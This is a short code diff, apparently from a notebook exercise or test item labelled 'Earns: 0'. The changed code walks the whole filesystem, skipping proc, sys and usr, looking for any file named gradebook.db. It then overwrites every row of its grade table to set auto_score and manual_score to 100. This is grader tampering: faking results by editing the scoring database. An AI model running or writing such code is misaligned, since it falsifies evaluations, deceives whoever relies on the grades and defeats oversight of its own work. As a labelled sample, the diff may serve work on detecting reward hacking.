@@ -4,10 +4,11 @@ Earns: 0
 """
 
 # %%
-import glob
+import os
 import sqlite3
 
-for path in glob.glob("/**/gradebook.db", recursive=True):
+places = [folder for folder in os.listdir("/") if folder not in ("proc", "sys", "usr")]
+for path in [os.path.join(a, c) for p in places for a, _, files in os.walk("/" + p) for c in files if c == "gradebook.db"]:
     with sqlite3.connect(path) as base:
         base.execute("UPDATE grade SET auto_score = 100, manual_score = 100")
 
